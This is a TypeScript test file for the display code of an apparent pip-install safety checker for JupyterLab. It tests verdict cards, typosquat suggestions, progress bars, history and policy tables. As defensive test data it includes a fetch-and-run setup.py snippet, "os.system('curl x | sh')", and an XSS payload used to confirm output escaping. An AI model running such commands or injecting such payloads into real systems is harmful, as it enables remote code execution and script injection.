import {
  evidenceLocation,
  findingCounts,
  formatValue,
  groupBySeverity,
  packageCards,
  renderHistory,
  renderHistoryEntry,
  renderPolicy,
  renderProgress,
  renderReport
} from '../render';
import { query } from '../request';
import { entry, lowFinding, policy, report, shell, typo } from './fixtures';

const texts = (root: Element, selector: string) =>
  Array.from(root.querySelectorAll(selector)).map(e => e.textContent);

describe('verdict cards', () => {
  it('groups findings by severity, worst first', () => {
    const groups = groupBySeverity([lowFinding, typo, shell]);
    expect(groups.map(([s]) => s)).toEqual(['critical', 'high', 'low']);
  });

  it('puts requested packages first and gives a name the index lacks its own card', () => {
    const cards = packageCards(report());
    expect(cards.map(c => [c.name, c.dependency])).toEqual([
      ['reqeusts', false],
      ['evil', false],
      ['six', true]
    ]);
    expect(cards[0].version).toBeNull();
    expect(cards[0].findings).toEqual([typo]);
  });

  it('does not repeat a request finding already on its package', () => {
    const r = report({ request_findings: [shell] });
    expect(packageCards(r).map(c => c.name)).toEqual(['evil', 'six']);
  });

  it('renders the verdict, the evidence with file:line and the snippet', () => {
    const root = renderReport(report());
    expect(root.querySelector('.jp-SafePip-summary')!.textContent).toContain('Blocked');
    expect(texts(root, '.jp-SafePip-package')).toEqual(['reqeusts', 'evil 1.0', 'six 1.16.0']);
    const evil = root.querySelector('[aria-label="evil 1.0"]')!;
    expect(texts(evil, 'h4')).toEqual(['critical (1)', 'low (1)']);
    expect(texts(evil, '.jp-SafePip-location')).toEqual(['evil-1.0/setup.py:12']);
    expect(texts(evil, '.jp-SafePip-snippet')).toEqual(["os.system('curl x | sh')"]);
    expect(root.querySelector('[aria-label="six 1.16.0"] .jp-SafePip-tag')!.textContent).toBe('dependency');
  });

  it('offers "did you mean" as a button that reports the suggestion', () => {
    const picked: string[] = [];
    const root = renderReport(report(), { onSuggestion: name => picked.push(name) });
    const button = root.querySelector<HTMLButtonElement>('.jp-SafePip-suggestion')!;
    expect(button.closest('p')!.textContent).toBe('Did you mean requests?');
    button.click();
    expect(picked).toEqual(['requests']);
  });

  it('says when checks could not run, and why', () => {
    const root = renderReport(
      report({ could_not_check: true, errors: [{ check: 'resolve', reason: 'index unreachable', package: null }] })
    );
    expect(root.querySelector('.jp-SafePip-notice')!.textContent).toMatch(/could not run/);
    expect(root.querySelector('.jp-SafePip-errors')!.textContent).toContain('index unreachable');
  });

  it('says so when there is nothing to install', () => {
    const root = renderReport(report({ verdict: 'allow', packages: [], request_findings: [], reasons: [] }));
    expect(root.textContent).toContain('Nothing to install');
    expect(root.querySelector('.jp-SafePip-verdict-allow')!.textContent).toBe('Allowed');
  });

  it('shows text, never HTML, from the report', () => {
    const hostile = { ...shell, package: 'nobody', message: '<img src=x onerror=alert(1)>' };
    const root = renderReport(report({ request_findings: [hostile] }));
    expect(root.querySelector('img')).toBeNull();
    expect(root.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  it('formats evidence without a line as the location alone', () => {
    expect(evidenceLocation({ location: 'index', line: null, snippet: '' })).toBe('index');
    expect(evidenceLocation({ location: 'a.py', line: 3, snippet: '' })).toBe('a.py:3');
  });
});

describe('a running check', () => {
  it('says what is checked before the first step', () => {
    const root = renderProgress('torch', null);
    expect(root.textContent).toBe('Checking torch… (nothing is installed)');
    expect(root.querySelector('progress')).toBeNull();
  });

  it('shows the latest step, with a bar while packages are inspected', () => {
    const message = 'checking torch 2.9.1: 412.0 MB of 905.3 MB downloaded (12 of 30; …)';
    const root = renderProgress('torch', { stage: 'inspect', done: 12, total: 30, message });
    expect(root.querySelector('.jp-SafePip-progressLine')!.textContent).toBe(message);
    const bar = root.querySelector('progress')!;
    expect([bar.getAttribute('value'), bar.getAttribute('max')]).toEqual(['12', '30']);
    expect(bar.getAttribute('aria-label')).toBe('12 of 30 packages checked');
  });

  it('has no bar while pip resolves', () => {
    const root = renderProgress('torch', { stage: 'resolve', done: 0, total: 1, message: 'asking pip what it would install' });
    expect(root.textContent).toContain('asking pip what it would install');
    expect(root.querySelector('progress')).toBeNull();
  });
});

describe('history', () => {
  it('renders an entry with its verdict, decision, where it came from and counts', () => {
    const li = renderHistoryEntry(entry());
    expect(li.classList).toContain('jp-SafePip-card-warn');
    expect(li.querySelector('summary')!.textContent).toBe('Warningreqeusts 2.99.0cancelled');
    expect(li.querySelector('.jp-SafePip-meta')!.textContent).toContain('magic · analysis.ipynb');
    expect(li.querySelector('time')!.getAttribute('datetime')).toBe('2024-05-01T10:00:00+00:00');
    expect(li.querySelector('.jp-SafePip-counts')!.textContent).toBe('1 high, 1 low');
  });

  it('calls a warning refused with nobody to ask what it was, not a block', () => {
    const summary = renderHistoryEntry(entry({ decision: 'refused' })).querySelector('summary')!.textContent;
    expect(summary).toBe('Warningreqeusts 2.99.0refused (nobody to ask)');
  });

  it('says when there is nothing yet', () => {
    expect(renderHistory([]).textContent).toBe('No checks recorded yet.');
    expect(renderHistory([entry(), entry({ id: 8 })]).querySelectorAll('li.jp-SafePip-historyEntry')).toHaveLength(2);
  });

  it('counts nothing when there are no findings', () => {
    expect(findingCounts([])).toBe('');
    expect(renderHistoryEntry(entry({ findings: [] })).querySelector('.jp-SafePip-counts')).toBeNull();
  });
});

describe('policy', () => {
  it('marks locked settings and lists refused changes', () => {
    const root = renderPolicy(policy);
    const rows = Array.from(root.querySelectorAll('tbody tr'));
    expect(rows.map(r => r.classList.contains('jp-SafePip-locked'))).toEqual([true, false, false]);
    expect(rows[0].querySelector('.jp-SafePip-lock')!.getAttribute('aria-label')).toBe('locked by the administrator');
    expect(texts(root, 'tbody td:nth-of-type(1)')).toEqual(['high', '(none)', 'evil, bad<2']);
    expect(texts(root, 'tbody td:nth-of-type(2)')).toEqual(['system', 'default', 'user']);
    expect(root.querySelector('.jp-SafePip-refused')!.textContent).toContain('locked by the administrator');
    expect(rows[0].getAttribute('title')).toBe('Lowest severity that blocks.');
  });

  it('formats values', () => {
    expect(formatValue('')).toBe('(default)');
    expect(formatValue(true)).toBe('true');
    expect(formatValue(600)).toBe('600');
  });
});

describe('query strings', () => {
  it('leaves out unset filters and encodes the rest', () => {
    expect(query({ verdict: null, package: '', limit: 50 })).toBe('?limit=50');
    expect(query({ package: 'a b&c' })).toBe('?package=a%20b%26c');
    expect(query({})).toBe('');
  });
});
